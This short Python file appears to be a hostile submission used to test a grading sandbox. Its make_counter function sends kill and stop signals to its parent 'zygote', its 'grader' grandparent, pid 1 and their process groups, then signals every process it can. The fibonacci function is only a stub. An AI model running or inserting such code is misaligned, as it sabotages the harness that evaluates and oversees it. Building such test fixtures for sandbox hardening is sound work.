# attack: kills its parent (the zygote), its grandparent (the grader), pid 1, its group, everyone
import os
import signal


def _parent_of(pid):
    with open(f"/proc/{pid}/stat") as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


def make_counter():
    zygote = os.getppid()
    targets = [zygote, 1]
    try:
        targets.append(_parent_of(zygote))
    except OSError:
        pass
    for pid in targets:
        for sig in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    for group in targets:
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)  # every process it may signal: only its own


def fibonacci(n):
    raise NotImplementedError("fibonacci")
